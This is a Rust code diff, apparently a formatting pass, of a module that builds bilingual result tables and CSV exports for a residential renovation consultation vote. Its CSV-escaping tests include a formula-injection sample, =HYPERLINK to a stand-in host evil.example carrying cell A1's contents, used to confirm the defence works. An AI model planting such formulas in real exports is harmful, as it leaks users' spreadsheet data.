@@ -39,51 +39,114 @@ pub fn summary_header() -> [String; 2] {
 
 /// A label with a hole filled in both languages: "覆盖率达到三分之二 (Coverage meets two thirds)".
 fn both_with(w: Words, arg: impl Fn(Lang) -> String) -> String {
-    format!("{} ({})", fill(w.zh(), &[&arg(Lang::Zh)]), fill(w.en(), &[&arg(Lang::En)]))
+    format!(
+        "{} ({})",
+        fill(w.zh(), &[&arg(Lang::Zh)]),
+        fill(w.en(), &[&arg(Lang::En)])
+    )
 }
 
 /// The tables of a project's results. Every verdict comes from the core with the server's rule set.
 /// `waiting`: ballots recorded on this phone and not yet accepted by the server (shown apart, never
 /// counted); `None` where there is no such thing (the server's own exports).
-pub fn tables(p: &ProjectFields, menu: &[MenuItem], tally: &Tally, rules: &RenovationRules, waiting: Option<u64>) -> Tables {
+pub fn tables(
+    p: &ProjectFields,
+    menu: &[MenuItem],
+    tally: &Tally,
+    rules: &RenovationRules,
+    waiting: Option<u64>,
+) -> Tables {
     let a = &tally.art278;
     let s = |k: Words, v: Cell| (k.both(), v);
     let c = &tally.coverage;
     let rounds = p.consultation_verdict(rules);
     let mut summary = vec![
         s(Words::RowProject, t(p.name.clone())),
-        s(Words::RowSurveyPeriod, t(format!("{} – {}", p.survey_opens, p.survey_closes))),
+        s(
+            Words::RowSurveyPeriod,
+            t(format!("{} – {}", p.survey_opens, p.survey_closes)),
+        ),
         s(Words::RowHouseholds, Cell::Num(c.total as f64)),
         s(Words::RowResponded, Cell::Num(c.responded as f64)),
-        s(Words::RowRespondedOfAll, t(format!("{}/{}", c.responded, c.total))),
+        s(
+            Words::RowRespondedOfAll,
+            t(format!("{}/{}", c.responded, c.total)),
+        ),
         s(Words::RowCoverage, Cell::Pct(c.ratio)),
-        (both_with(Words::RowCoverageMeets, |l| fraction_words(c.threshold, l)), yes_no(c.met)),
-        s(Words::RowAgreeing, Cell::Num(tally.agreement.households as f64)),
-        s(Words::RowAgreeingShareAll, Cell::Pct(tally.agreement.households_ratio)),
-        s(Words::RowAgreeingShareResponded, Cell::Pct(tally.agreement.households_ratio_of_responded)),
+        (
+            both_with(Words::RowCoverageMeets, |l| fraction_words(c.threshold, l)),
+            yes_no(c.met),
+        ),
+        s(
+            Words::RowAgreeing,
+            Cell::Num(tally.agreement.households as f64),
+        ),
+        s(
+            Words::RowAgreeingShareAll,
+            Cell::Pct(tally.agreement.households_ratio),
+        ),
+        s(
+            Words::RowAgreeingShareResponded,
+            Cell::Pct(tally.agreement.households_ratio_of_responded),
+        ),
         s(Words::RowAgreeingArea, Cell::Num(tally.agreement.area_m2)),
-        s(Words::RowAgreeingAreaShareAll, Cell::Pct(tally.agreement.area_ratio)),
-        s(Words::RowAgreeingAreaShareResponded, Cell::Pct(tally.agreement.area_ratio_of_responded)),
-        s(Words::RowParticipationArea, Cell::Pct(a.participation.area_ratio)),
-        s(Words::RowParticipationOwners, Cell::Pct(a.participation.owners_ratio)),
-        s(Words::RowParticipationThreshold, t(a.participation.threshold.clone())),
+        s(
+            Words::RowAgreeingAreaShareAll,
+            Cell::Pct(tally.agreement.area_ratio),
+        ),
+        s(
+            Words::RowAgreeingAreaShareResponded,
+            Cell::Pct(tally.agreement.area_ratio_of_responded),
+        ),
+        s(
+            Words::RowParticipationArea,
+            Cell::Pct(a.participation.area_ratio),
+        ),
+        s(
+            Words::RowParticipationOwners,
+            Cell::Pct(a.participation.owners_ratio),
+        ),
+        s(
+            Words::RowParticipationThreshold,
+            t(a.participation.threshold.clone()),
+        ),
         s(Words::RowConsentArea, Cell::Pct(a.consent.area_ratio)),
         s(Words::RowConsentOwners, Cell::Pct(a.consent.owners_ratio)),
         s(Words::RowConsentThreshold, t(a.consent.threshold.clone())),
         s(Words::RowArt278Passed, yes_no(a.passed)),
         s(Words::RowExplanationZh, t(a.explanation_zh.clone())),
         s(Words::RowExplanationEn, t(a.explanation_en.clone())),
-        s(Words::RowChangedAnswers, Cell::Num(tally.changed_answers as f64)),
+        s(
+            Words::RowChangedAnswers,
+            Cell::Num(tally.changed_answers as f64),
+        ),
         (
-            format!("{} ({})", Words::RowRounds.both(), both_with(Words::RowRoundsMin, |_| rounds.min.to_string())),
-            t(format!("{} / {} {}", rounds.held, rounds.min, if rounds.met { "✓" } else { "✗" })),
+            format!(
+                "{} ({})",
+                Words::RowRounds.both(),
+                both_with(Words::RowRoundsMin, |_| rounds.min.to_string())
+            ),
+            t(format!(
+                "{} / {} {}",
+                rounds.held,
+                rounds.min,
+                if rounds.met { "✓" } else { "✗" }
+            )),
         ),
     ];
     if let Some(w) = waiting {
         summary.insert(5, s(Words::RowWaiting, Cell::Num(w as f64)));
     }
     if let Some(r) = p.return_rate_verdict(rules) {
-        summary.push(s(Words::RowReturnRate, t(format!("{:.1}% (≥ {:.1}%) {}", r.value, r.min, if r.met { "✓" } else { "✗" }))));
+        summary.push(s(
+            Words::RowReturnRate,
+            t(format!(
+                "{:.1}% (≥ {:.1}%) {}",
+                r.value,
+                r.min,
+                if r.met { "✓" } else { "✗" }
+            )),
+        ));
     }
     let by_id: HashMap<String, &MenuItem> = menu.iter().map(|m| (m.id.to_string(), m)).collect();
     let items = tally
@@ -99,7 +162,8 @@ pub fn tables(p: &ProjectFields, menu: &[MenuItem], tally: &Tally, rules: &Renov
             };
             vec![
                 Cell::Num((i + 1) as f64),
-                t(m.map(|m| m.fields.name.clone()).unwrap_or_else(|| it.id.clone())),
+                t(m.map(|m| m.fields.name.clone())
+                    .unwrap_or_else(|| it.id.clone())),
                 t(m.map(|m| m.fields.class.words().both()).unwrap_or_default()),
                 Cell::Num(it.households as f64),
                 Cell::Num(it.area_m2),
@@ -138,7 +202,11 @@ pub fn tables(p: &ProjectFields, menu: &[MenuItem], tally: &Tally, rules: &Renov
 /// (starting with `=`, `+`, `-`, `@`, a tab or a carriage return) neutralised with a leading `'`
 /// (CSV injection). Numbers are written by `csv_cell` and never pass here.
 fn csv_field(s: &str) -> String {
-    let s = if s.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{s}") } else { s.to_string() };
+    let s = if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{s}")
+    } else {
+        s.to_string()
+    };
     if s.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", s.replace('"', "\"\""))
     } else {
@@ -191,7 +259,10 @@ mod tests {
         // Moved from the app, which now writes the core's CSV.
         assert_eq!(csv_field("路面"), "路面");
         // CSV injection: what a spreadsheet would run as a formula is written as text.
-        assert_eq!(csv_field("=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")"), "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点击\"\")\"");
+        assert_eq!(
+            csv_field("=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")"),
+            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点击\"\")\""
+        );
         assert_eq!(csv_field("+1"), "'+1");
         assert_eq!(csv_field("-2"), "'-2");
         assert_eq!(csv_field("@SUM(A1)"), "'@SUM(A1)");
